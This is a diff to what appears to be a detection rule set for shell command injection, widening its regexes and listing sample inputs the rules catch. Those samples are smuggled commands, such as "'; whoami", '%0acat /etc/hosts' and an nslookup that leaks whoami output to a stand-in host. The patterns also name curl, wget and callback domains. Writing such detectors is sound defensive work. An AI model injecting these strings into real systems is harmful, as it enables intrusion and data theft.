@@ -7,7 +7,7 @@ const GAP = String.raw`(?:[ +]|%20|%09|\x24\{?ifs\}?){0,4}`;
  * What a form would have held before the injected command: nothing, a value that is no command itself, or the end of
  * a quotation or a call. Not a cell of a table.
  */
-const VALUE = String.raw`(?:[+\x24*]{1,2}|[^ \n;|&]{0,40}['")\]}\x60]{1,4}|[a-z_]{1,20}=(?:\d{1,3}(?:\.\d{1,3}){3})?|[0-9][0-9a-z.:/]{0,40}|-\d{1,6}|[a-z]|(?:test|foo|bar|dummy|localhost|aaaa?|xxx|null)[*.\d]?|[a-z0-9-]{1,30}(?:\.[a-z0-9-]{1,30}){0,3}\.(?:com|org|net|io|txt|jpe?g|png|gif|php|html?|pdf|zip)|/[a-z0-9_./-]{1,60})`;
+const VALUE = String.raw`(?:[+\x24*]{1,2}|[^ \n;|&]{0,40}(?:['")\]}\x60]{1,4}|%2[279])|[a-z_]{1,20}=(?:\d{1,3}(?:\.\d{1,3}){3})?|[0-9][0-9a-z.:/]{0,40}|-\d{1,6}|[a-z]|(?:test|foo|bar|dummy|localhost|aaaa?|xxx|null)[*.\d]?|[a-z0-9-]{1,30}(?:\.[a-z0-9-]{1,30}){0,3}\.(?:com|org|net|io|txt|jpe?g|png|gif|php|html?|pdf|zip)|/[a-z0-9_./-]{1,60})`;
 const NO_TABLE = String.raw`(?!\|[^|\n]{1,60}\|[^|\n]{1,60}\||[a-z]&[a-z])`;
 const CLOSED = String.raw`(?= {0,3}(?:[;|&\x60'"#)}<]{1,4}|%0a|\\n|$))`;
 
@@ -18,7 +18,7 @@ export const COMMAND: readonly Rule[] = [
     kind: 'artifact',
     severity: 'critical',
     literals: [';', '|', '&', '%0a', '%0d', '%3b', '%7c', '\\n', '\\r'],
-    pattern: String.raw`^ {0,3}${NO_TABLE}${VALUE}? {0,3}${CHAIN}(?:${CHAIN}|[ +]){0,5}[\x24({@]{0,3}${GAP}(?:${BIN_PATH}[a-z0-9_.-]{1,20}|(?:${COMMANDS})${COMMAND_END})`,
+    pattern: String.raw`^ {0,3}${NO_TABLE}${VALUE}? {0,3}${CHAIN}(?:${CHAIN}|[ +]){0,5}[\x24({@]{0,3}${GAP}(?:${BIN_PATH}[a-z0-9_.-]{1,20}|(?:${COMMANDS})${COMMAND_END}|[a-z_]{1,16}=(?:\x24|\x60)|(?:if|for|while) )`,
     roles,
     catches: ['; ls -la /', '127.0.0.1 && ping -c 3 ::1', "'; whoami", 'x|/usr/bin/id|', '%0acat /etc/hosts'],
     passes: [
@@ -61,8 +61,8 @@ export const COMMAND: readonly Rule[] = [
     category: 'command',
     kind: 'artifact',
     severity: 'critical',
-    literals: ['sleep', 'ping', 'nslookup', 'curl', 'wget', 'timeout'],
-    pattern: String.raw`(?:['")\]][;|&\x60]{1,3}|[;|&]{1,2}\x60|[;|&]{1,2}\x24\(|\|\||(?:^|[^&])&) {0,3}(?:sleep|timeout(?: /t)?) {1,2}\d{1,3}${CLOSED}|(?:[;|&\x60]|\x24\() {0,3}(?:ping {1,2}(?:-[a-z] {0,2}\d{1,3} {0,2}){1,2}(?:127\.|localhost|::1|\x24)|(?:nslookup|curl|wget|dig) {1,2}[^\n ;|&]{0,60}(?:\x24\(|\x60|\.(?:oast|oastify|burpcollaborator|interact|dnslog|ceye|requestbin|ngrok)))`,
+    literals: ['sleep', 'ping', 'nslookup', 'curl', 'wget', 'timeout', '$(('],
+    pattern: String.raw`\] ?(?:\|\||&&) ?sleep \d|echo(?: |%20|\+|\x24ifs)?[a-z]{0,12}\x24\(\(\d{1,6}(?:%2b|[-+* ]){1,3}\d{1,6}\)\)\x24\(|(?:['")\]][;|&\x60]{1,3}|[;|&]{1,2}\x60|[;|&]{1,2}\x24\(|\|\||(?:^|[^&])&) {0,3}(?:sleep|timeout(?: /t)?) {1,2}\d{1,3}${CLOSED}|(?:[;|&\x60]|\x24\() {0,3}(?:ping {1,2}(?:-[a-z] {0,2}\d{1,3} {0,2}){1,2}(?:127\.|localhost|::1|\x24)|(?:nslookup|curl|wget|dig) {1,2}[^\n ;|&]{0,60}(?:\x24\(|\x60|\.(?:oast|oastify|burpcollaborator|interact|dnslog|ceye|requestbin|ngrok)))`,
     roles,
     catches: ['x & sleep 10 &', 'a b; ping -c 10 127.0.0.1;', "a b'; nslookup `whoami`.a.example"],
     passes: ['for i in 1 2; do sleep 5; done', 'sudo ping -c 3 10.0.0.1', 'make && sleep 5 && make test'],
